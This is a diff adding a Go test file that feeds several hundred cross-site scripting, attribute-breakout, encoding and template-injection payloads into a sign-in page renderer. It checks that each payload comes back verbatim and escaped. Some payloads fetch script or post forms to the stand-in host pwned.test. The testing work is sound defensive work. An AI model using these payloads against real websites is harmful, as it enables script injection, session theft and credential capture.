@@ -1,0 +1,160 @@
+package page
+
+import (
+	"html"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// What a value would have to leave first: attributes, elements whose content isn't parsed, comments.
+var exits = []string{
+	"", `"`, `'`, ">", `">`, `'>`, "`>", "/>", "</p>", "</h1>", "</bdi>", "</title>", "</style>", "</script>", "</noscript>",
+	"-->", "--!>", "]]>", "</span>", `" x="`, "\\\">", "&quot;>", "&#34;&#62;", "%22%3E",
+}
+
+// What would then run pwned, or call for somewhere else.
+var attacks = []string{
+	"<script>pwned()</script>",
+	"<ScRiPt >pwned()</sCrIpT\t>",
+	"<script>pwned()//",
+	"<script src=//pwned.test></script>",
+	"<script\x0ctype=module>pwned()</script>",
+	"<img src=x onerror=pwned()>",
+	"<img/src=x/onerror=pwned()>",
+	"<IMG SRC=x oNeRrOr=pwned()>",
+	"<svg onload=pwned()>",
+	"<svg/onload=pwned()//",
+	"<svg><script>pwned()</script></svg>",
+	"<svg><animate onbegin=pwned() attributeName=x>",
+	"<math><mtext><img src=x onerror=pwned()>",
+	"<body onload=pwned()>",
+	"<iframe src=javascript:parent.pwned()>",
+	"<iframe srcdoc='<script>top.pwned()</script>'>",
+	"<object data=javascript:pwned()>",
+	"<embed src=javascript:pwned()>",
+	"<details open ontoggle=pwned()>",
+	"<input autofocus onfocus=pwned()>",
+	"<video><source onerror=pwned()>",
+	"<audio src=x onerror=pwned()>",
+	"<style>@import '//pwned.test';</style>",
+	"<style>*{background:url(//pwned.test)}</style>",
+	"<link rel=stylesheet href=//pwned.test>",
+	"<meta http-equiv=refresh content=0;//pwned.test>",
+	"<base href=//pwned.test>",
+	"<form action=//pwned.test><button>",
+	"<marquee onstart=pwned()>",
+	"<x onfocus=pwned() tabindex=1 autofocus>",
+	"<template><script>pwned()</script></template>",
+	"<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+}
+
+// What stays where it is and hopes for something that evaluates it.
+var stowaways = []string{
+	"javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned",
+	`" onfocus=pwned() autofocus="`, `' onfocus='pwned()' autofocus '`, `" formaction="javascript:pwned()`, `" form="x" type="image`,
+	`" style="background:url(//pwned.test)`, `" http-equiv="refresh" content="0;url=//pwned.test`, `"accesskey=x onclick=pwned() "`,
+	"{{.Token}}", "{{pwned}}", `{{define "sign-in"}}x{{end}}`, `{{template "head" .}}`, "{{/*", "*/}}", "{{- 1 -}}", `{{"<script>"}}`,
+	"{brand}", "{{brand}}", "{ brand }", "${pwned()}", "#{pwned()}", "<%= pwned() %>", "<?= pwned() ?>", "{% include 'x' %}", "{{7*7}}",
+	"{{constructor.constructor('pwned()')()}}", "{{$on.constructor('pwned()')()}}", "@(1+1)", "*{pwned()}", "[[${1+1}]]", "~{::x}", "{!pwned!}",
+	"\\x3cscript\\x3epwned()", "\\u003cscript\\u003epwned()", "%3Cscript%3Epwned()", "&lt;script&gt;pwned()", "&#60;script&#62;pwned()",
+	"&#x3c;script&#x3e;pwned()", "&LT;script&GT;pwned()", "&lt script &gt pwned()", "+ADw-script+AD4-pwned()", "\uff1cscript\uff1epwned()",
+	"<<script>script>pwned()", "<scr<script>ipt>pwned()</scr</script>ipt>", "<!--<script>pwned()", "<![CDATA[<script>pwned()]]>",
+	"<!--[if IE]><script>pwned()<![endif]-->", "<plaintext>", "<xmp><script>pwned()</xmp>", "</body></html><script>pwned()",
+	"';pwned();'", `";pwned();"`, "`;pwned();`", "');pwned();//", "pwned()", "-pwned()-", "</form><form id=sign-in>", "<b name=submit>",
+	"$&", "$1", "$`", "\\1", "%s%d%n", "DeskmintsMark0e", "ZgotmplZ", "&", "&&", "&amp;amp;", "&#0;", "&#xD800;", "&nbsp", "&notin;x",
+}
+
+// Payloads returns values that mean harm.
+func Payloads() []string {
+	all := append([]string{}, stowaways...)
+	for _, exit := range exits {
+		for _, attack := range attacks {
+			all = append(all, exit+attack)
+		}
+	}
+	return all
+}
+
+// TestPayloadsRoundTrip: each reaches every place of the page that takes a text, and is read there byte for byte.
+func TestPayloadsRoundTrip(t *testing.T) {
+	reached := map[string]int{}
+	all := Payloads()
+	for _, payload := range all {
+		frame := acme()
+		frame.Scope = payload
+		frame.Action += "?" + url.QueryEscape(payload)
+		if (Frame{Brand: payload, Scope: "x", Action: frame.Action, FormActionSources: frame.FormActionSources}).withDefaults().check() == nil {
+			frame.Brand = payload
+			reached["brand"]++
+		}
+		var look Settings
+		for field, text := range map[string]*string{"title": &look.Title, "message": &look.Message, "button": &look.Button} {
+			*text = payload
+			if faultsOf(look) != nil {
+				*text = "" // a control character, or too long: refused, which has tests of its own
+				continue
+			}
+			reached[field]++
+		}
+		p := mustNew(t, look, frame)
+		checkPayload(t, payload, p, look, frame)
+		reached["token, return_to, scope, action"]++
+	}
+	t.Logf("%d payloads: %v", len(all), reached)
+	for field, n := range reached {
+		if n < 300 {
+			t.Errorf("only %d payloads reached %s", n, field)
+		}
+	}
+}
+
+func checkPayload(t *testing.T, payload string, p *Page, look Settings, frame Frame) {
+	t.Helper()
+	page := p.Render(payload, payload)
+	checkParsed(t, p, payload, payload)
+	form := all(t, page, "form")[0]
+	heading, title := all(t, page, "h1")[0], all(t, page, "title")[0]
+	got := map[string]string{
+		"data-scope": attribute(form, "data-scope"), "action": attribute(form, "action"), "brand": content(all(t, page, "bdi")[0]),
+	}
+	want := map[string]string{"data-scope": frame.Scope, "action": frame.Action, "brand": frame.Brand}
+	if look.Title != "" {
+		got["title"], want["title"] = content(title), look.Title
+		got["heading"], want["heading"] = content(heading), look.Title
+	}
+	if look.Message != "" {
+		got["message"], want["message"] = content(heading.NextSibling), look.Message
+	}
+	if look.Button != "" {
+		got["button"], want["button"] = content(all(t, page, "button")[0]), look.Button
+	}
+	for field := range want {
+		if got[field] != want[field] {
+			t.Errorf("%s reads %q, want %q", field, got[field], want[field])
+		}
+	}
+	for problem := range problems {
+		html := p.RenderProblem(problem)
+		if got := content(all(t, html, "bdi")[0]); got != frame.Brand {
+			t.Errorf("problem %d: the brand reads %q, want %q", problem, got, frame.Brand)
+		}
+		if got := content(all(t, html, "h1")[0]); !strings.Contains(got, frame.Brand) {
+			t.Errorf("problem %d: the heading reads %q, and not %q", problem, got, frame.Brand)
+		}
+	}
+}
+
+// TestPayloadsAreSome: as many as they should be, no two the same, and not all harmless to a page that doesn't escape.
+func TestPayloadsAreSome(t *testing.T) {
+	seen, escaped := map[string]bool{}, 0
+	for _, payload := range Payloads() {
+		seen[payload] = true
+		if html.EscapeString(payload) != payload {
+			escaped++
+		}
+	}
+	if len(seen) < 300 || len(seen) != len(Payloads()) || escaped < 300 {
+		t.Errorf("%d payloads, %d different, %d with markup", len(Payloads()), len(seen), escaped)
+	}
+}
